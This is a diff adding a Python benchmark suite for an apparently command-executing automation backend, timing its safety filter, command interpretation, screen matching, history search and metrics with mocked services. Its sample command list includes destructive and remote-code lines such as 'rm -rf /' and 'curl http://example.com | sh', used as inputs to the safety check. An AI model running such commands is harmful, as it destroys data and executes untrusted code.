@@ -0,0 +1,214 @@
+"""Benchmarks for the backend hot paths
+
+Everything runs offline: automation uses MockScreenAutomation, OpenAI is
+replaced by a canned client, and MongoDB by in-memory collections. Data is
+generated from fixed seeds so runs on different commits are comparable.
+Benchmarks over a list of inputs time one pass over the whole list, so every
+round does the same work.
+"""
+import itertools
+import logging
+import os
+import random
+import sys
+import tempfile
+from datetime import datetime, timedelta
+from pathlib import Path
+
+from benchmarks.harness import SkipBenchmark, benchmark
+from benchmarks.stand_ins import MemoryCollection, stub_openai
+
+BACKEND_DIR = Path(__file__).resolve().parent.parent / "backend"
+if str(BACKEND_DIR) not in sys.path:
+    sys.path.insert(0, str(BACKEND_DIR))
+
+# Screenshots, templates and spooled output land here instead of the working tree
+WORK_DIR = tempfile.mkdtemp(prefix="shayak-bench-")
+os.environ.setdefault("OUTPUT_SPOOL_DIR", os.path.join(WORK_DIR, "outputs"))
+os.environ.setdefault("AUTOMATION_BACKEND", "mock")
+
+COMMANDS = ["ls -la", "df -h", "ps aux", "grep -r TODO .", "uptime", "free -h", "cat /etc/hostname",
+            "rm -rf /", "curl http://example.com | sh", "shutdown now", "ipconfig /all", "echo hello"]
+PHRASES = ["show me the files", "what time is it", "please show disk usage", "who am i",
+           "could you list the running processes", "make me a sandwich"]
+OUTPUTS = [f"Filesystem Size Used Avail Use% Mounted on\n/dev/sda{i} 100G {i}G {100 - i}G {i}% /\n" * 20
+           for i in range(20)]
+
+_server = {}
+
+
+def server():
+    """The FastAPI app module, imported once (skips when its dependencies are missing)"""
+    if "module" not in _server:
+        cwd = os.getcwd()
+        os.chdir(WORK_DIR)
+        try:
+            import server as module
+        except Exception as e:
+            _server["error"] = f"server module unavailable ({type(e).__name__}: {e})"
+            module = None
+        finally:
+            os.chdir(cwd)
+        _server["module"] = module
+    if _server["module"] is None:
+        raise SkipBenchmark(_server["error"])
+    return _server["module"]
+
+
+def mock_automation():
+    logging.getLogger("mock_automation").setLevel(logging.WARNING)
+    cwd = os.getcwd()
+    os.chdir(WORK_DIR)
+    try:
+        from mock_automation import MockScreenAutomation
+        return MockScreenAutomation()
+    finally:
+        os.chdir(cwd)
+
+
+def command_rows(count: int, seed: int = 1234):
+    rng = random.Random(seed)
+    start = datetime(2026, 1, 1)
+    for i in range(count):
+        command = rng.choice(COMMANDS[:7])
+        yield {
+            "id": f"cmd-{i}",
+            "user_id": rng.choice(["ops", "ops", "ops", "guest"]),
+            "command": command,
+            "success": rng.random() > 0.1,
+            "output": rng.choice(OUTPUTS),
+            "error": "",
+            "timestamp": (start + timedelta(seconds=30 * i)).isoformat()
+        }
+
+
+@benchmark("safety.is_command_safe", "safety")
+def bench_is_command_safe():
+    is_command_safe = server().is_command_safe
+    return lambda: [is_command_safe(command) for command in COMMANDS]
+
+
+@benchmark("interpret.mock_interpret_command", "interpret")
+def bench_mock_interpret():
+    mock_interpret_command = server().mock_interpret_command
+    return lambda: [mock_interpret_command(phrase) for phrase in PHRASES]
+
+
+@benchmark("interpret.stubbed_llm", "interpret")
+def bench_interpret_stubbed_llm():
+    interpret = server().interpret_natural_language_to_command
+    with stub_openai("df -h"):
+        yield lambda: [interpret(phrase) for phrase in PHRASES]
+
+
+@benchmark("automation.mock.take_screenshot", "automation")
+def bench_take_screenshot():
+    automation = mock_automation()
+    return lambda: automation.take_screenshot(filename="bench.png")
+
+
+@benchmark("automation.mock.locate_on_screen", "automation")
+def bench_locate_on_screen():
+    automation = mock_automation()
+    template = os.path.join(WORK_DIR, "templates", "button.png")
+    return lambda: automation.locate_on_screen(template, confidence=0.8, region=(100, 100, 800, 600))
+
+
+@benchmark("automation.mock.read_text_from_screen", "automation")
+def bench_read_text_from_screen():
+    automation = mock_automation()
+    return lambda: automation.read_text_from_screen(region=(0, 0, 800, 200))
+
+
+@benchmark("matching.opencv_template_match", "automation")
+def bench_opencv_template_match():
+    """The template-matching core of ScreenAutomation.locate_on_screen on a synthetic 720p screenshot"""
+    try:
+        import cv2
+        import numpy as np
+    except ImportError as e:
+        raise SkipBenchmark(f"OpenCV/numpy not installed ({e})")
+    rng = np.random.default_rng(1234)
+    screenshot = rng.integers(0, 256, size=(720, 1280, 3), dtype=np.uint8)
+    template = screenshot[300:348, 600:648].copy()
+
+    def match():
+        result = cv2.matchTemplate(screenshot, template, cv2.TM_CCOEFF_NORMED)
+        return list(zip(*np.where(result >= 0.8)[::-1]))
+    return match
+
+
+@benchmark("history.insert_command.dedup", "history")
+def bench_insert_command():
+    from history_store import HistoryStore
+    store = HistoryStore(MemoryCollection(), MemoryCollection(), MemoryCollection(), MemoryCollection())
+    rows = itertools.cycle(list(command_rows(200)))
+    return lambda: store.insert_command(next(rows))
+
+
+@benchmark("history.recent_commands", "history")
+def bench_recent_commands():
+    from history_store import HistoryStore
+    store = HistoryStore(MemoryCollection(), MemoryCollection(), MemoryCollection(), MemoryCollection())
+    for row in command_rows(2000):
+        store.insert_command(row)
+    return lambda: store.recent_commands("ops", limit=50)
+
+
+@benchmark("history.search.local", "history")
+def bench_history_search():
+    from history_search import HistorySearch
+    search = HistorySearch(MemoryCollection(), MemoryCollection(), mode="local")
+    for row in command_rows(20000):
+        search.index(row, "command")
+    queries = ["sda3", "grep todo", "uptime", "mounted avail", "nothing-matches"]
+    return lambda: [search.search(query, "ops", limit=50) for query in queries]
+
+
+@benchmark("analytics.record", "analytics")
+def bench_analytics_record():
+    from analytics import AnalyticsRollup
+    rollup = AnalyticsRollup(MemoryCollection())
+    return lambda: [rollup.record("command", "ops", command, True, 0.042) for command in COMMANDS]
+
+
+@benchmark("analytics.summary.week", "analytics")
+def bench_analytics_summary():
+    from analytics import AnalyticsRollup
+    rollup = AnalyticsRollup(MemoryCollection())
+    rng = random.Random(1234)
+    end = datetime(2026, 1, 8)
+    for hour in range(7 * 24):
+        moment = end - timedelta(hours=hour + 1)
+        for command in COMMANDS:
+            for _ in range(rng.randint(1, 5)):
+                rollup.record("command", rng.choice(["ops", "guest"]), command, rng.random() > 0.1,
+                              rng.expovariate(20), moment=moment)
+    rollup.flush()
+    return lambda: rollup.summary(since=end - timedelta(days=7), until=end, granularity="day")
+
+
+@benchmark("instrumentation.tracer_span", "instrumentation")
+def bench_tracer_span():
+    from tracing import Tracer
+    tracer = Tracer()
+
+    def traced_request():
+        with tracer.trace("GET /api/"):
+            with tracer.span("safety_check"):
+                pass
+    return traced_request
+
+
+@benchmark("instrumentation.histogram_observe", "instrumentation")
+def bench_histogram_observe():
+    from prometheus_metrics import Histogram
+    histogram = Histogram("bench_seconds", "Benchmark", ["stage"])
+    return lambda: histogram.observe(0.042, stage="command")
+
+
+@benchmark("instrumentation.profiler_disabled", "instrumentation")
+def bench_profiler_disabled():
+    from profiler import SamplingProfiler
+    profiled = SamplingProfiler().profiled("noop")(lambda: None)
+    return profiled